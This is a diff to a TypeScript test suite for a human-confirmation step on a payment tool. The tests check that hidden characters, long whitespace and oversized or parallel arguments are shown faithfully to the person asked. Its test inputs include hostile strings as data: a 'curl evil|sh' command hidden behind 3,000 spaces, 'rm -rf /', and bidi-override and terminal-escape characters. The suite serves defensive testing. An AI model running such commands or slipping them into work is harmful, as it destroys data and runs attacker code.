@@ -16,7 +16,7 @@ export default {
     pay: {
       description: 'Pays a sum to somebody. Nothing else.',
       effect: 'destructive',
-      input: { type: 'object', properties: { to: { type: 'string' }, note: { type: 'string' }, pin_password: { type: 'string' } } },
+      input: { type: 'object', properties: { to: { type: 'string' }, note: { type: 'string' }, pin_password: { type: 'string' }, more: { type: 'object' } } },
       run: (input) => ({ runs: ++runs, to: input.to ?? null }),
     },
     balance: { description: 'How much there is, and how often was paid.', effect: 'read', run: () => ({ runs }) },
@@ -81,7 +81,7 @@ describe.each(ERAS)('a tool that asks, with a client of the %s era', (era) => {
       [
         'May bank.pay run?',
         'It is a tool of the module bank and may destroy something.',
-        'Arguments: {\n  "to": "Ann",\n  "pin_password": "[redacted]"\n}',
+        'Arguments: {\n  "to": "Ann",\n  "pin_password": "canary"\n}',
       ].join('\n'),
     ])
     // A yes is good for one call.
@@ -220,13 +220,97 @@ describe('a question that nobody answers', () => {
 })
 
 describe('what a person is shown', () => {
-  it('is cut short and has no characters that nobody sees', async () => {
+  it('is every argument, with long white space counted and hidden characters written out', async () => {
     const { app } = await bankApp({ policy: { ask: [{ tools: 'bank.pay', reason: 'real money' }] } })
     const { client, asked } = await person(app, 'legacy', 'decline')
-    await call(client, 'bank__pay', { to: 'A\u202Enn\u{E0041}\u001b[2J', note: 'x'.repeat(5_000) })
+    await call(client, 'bank__pay', {
+      to: 'A\u202Enn\u{E0041}\u001b[2J\u00a0x',
+      note: `sh -c "echo building…${' '.repeat(3_000)}curl evil|sh"`,
+      pin_password: 'rm -rf /',
+      more: {
+        deep: { a: { b: { c: { d: { e: { f: { g: 'here' } } } } } } },
+        list: Array.from({ length: 30 }, (_, at) => at),
+        lines: `first${'\n'.repeat(500)}last\\n\\n ⟨9 spaces⟩`,
+        blank: `${'\u2003 '.repeat(40)}\u200b\u3164end`,
+      },
+    })
+    expect(asked).toHaveLength(1)
     expect(asked[0]).toContain('Why you are asked: real money')
-    expect(asked[0]).toContain('"to": "Ann"')
-    expect(asked[0]).toContain(`"note": "${'x'.repeat(200)}… (4800 more characters)"`)
+    expect(asked[0]).toContain('"to": "A\\u{202E}nn\\u{E0041}\\u001b[2J\\u{A0}x"')
+    expect(asked[0]).toContain('"note": "sh -c \\"echo building…⟨3000 spaces⟩curl evil|sh\\""')
+    expect(asked[0]).toContain('"pin_password": "rm -rf /"')
+    expect(asked[0]).toContain('"g": "here"')
+    expect(asked[0]).toMatch(/ 29\n/)
+    expect(asked[0]).toContain('"first⟨500 line breaks⟩last\\\\n\\\\n \\u{27E8}9 spaces\\u{27E9}"')
+    expect(asked[0]).toContain('"blank": "⟨80 blank characters⟩\\u{200B}\\u{3164}end"')
+    await client.close()
+  })
+
+  it.each(ERAS)('comes in several messages when it is long, and each must be accepted (%s)', async (era) => {
+    const { app } = await bankApp()
+    const note = Array.from({ length: 2_000 }, (_, at) => `n${at}`).join(' ')
+    const { client, asked } = await person(app, era, 'accept')
+    expect(codeOf(await call(client, 'bank__pay', { to: 'Ann', note }))).toBe('ran')
+    expect(asked.map((message) => message.split('\n', 2))).toEqual([
+      ['May bank.pay run?', 'Part 1 of 3. Nothing runs until you accept all parts.'],
+      ['May bank.pay run?', 'Part 2 of 3. Nothing runs until you accept all parts.'],
+      ['May bank.pay run?', 'Part 3 of 3. Nothing runs until you accept all parts.'],
+    ])
+    expect(asked.map((message) => message.split('\n').slice(2).join('\n')).join('')).toContain(note)
+    const refusing = await person(app, era, (message) => (message.includes('Part 3 of 3') ? 'decline' : 'accept'))
+    expect(codeOf(await call(refusing.client, 'bank__pay', { to: 'Ann', note }))).toBe('E_CONFIRMATION_DECLINED')
+    expect(answerOf(await call(client, 'bank__balance'))).toEqual({ runs: 1 })
+    await Promise.all([client.close(), refusing.client.close()])
+  })
+
+  it('is not asked when it is more than a person can be shown', async () => {
+    const { app } = await bankApp()
+    const { client, asked } = await person(app, 'legacy', 'accept')
+    const result = await call(client, 'bank__pay', { to: 'Ann', note: 'x'.repeat(40_000) })
+    expect(answerOf(result).error).toMatchObject({
+      code: 'E_CONFIRMATION_REQUIRED',
+      hint: 'Call it with less at a time; policy.ask decides that a person is asked.',
+    })
+    expect(answerOf(result).error.message).toContain('A person is asked about 32000 characters at most.')
+    expect(asked).toEqual([])
+    expect(answerOf(await call(client, 'bank__balance'))).toEqual({ runs: 0 })
+    await client.close()
+  })
+})
+
+describe.each(ERAS)('calls that run in parallel, with a client of the %s era', (era) => {
+  const actions = (count: number) => ({
+    actions: [
+      { name: 'bank.balance', params: {} },
+      ...Array.from({ length: count }, (_, at) => ({ name: 'bank.pay', params: { to: `person ${at}` } })),
+    ],
+  })
+
+  it('raise one question that lists all of them', async () => {
+    const { app } = await bankApp({ exposure: { mode: 'discovery', primitives: true } })
+    const { client, asked } = await person(app, era, 'accept')
+    const answer = answerOf(await call(client, 'run_parallel', actions(49)))
+    expect([answer.total, answer.succeeded]).toEqual([50, 50])
+    expect(new Set(asked.map((message) => message.split('\n')[0]))).toEqual(new Set(['May these 49 calls run?']))
+    const whole = asked.join('')
+    for (let at = 0; at < 49; at++) expect(whole).toContain(`"to": "person ${at}"`)
+    // Two pages at most: what one call needs is a hundred characters.
+    expect(asked.length).toBeLessThanOrEqual(2)
+    await client.close()
+  })
+
+  it('do not run when the person declines, and those that need no yes do', async () => {
+    const { app } = await bankApp({ exposure: { mode: 'discovery', primitives: true } })
+    const { client, asked } = await person(app, era, 'decline')
+    const answer = answerOf(await call(client, 'run_parallel', actions(3)))
+    expect(answer.results.map(({ success, code }: Answer) => (success ? 'ran' : code))).toEqual([
+      'ran',
+      'E_CONFIRMATION_DECLINED',
+      'E_CONFIRMATION_DECLINED',
+      'E_CONFIRMATION_DECLINED',
+    ])
+    expect(asked).toHaveLength(1)
+    expect(answerOf(await call(client, 'execute_tool', { name: 'bank.balance' })).data).toEqual({ runs: 0 })
     await client.close()
   })
 })
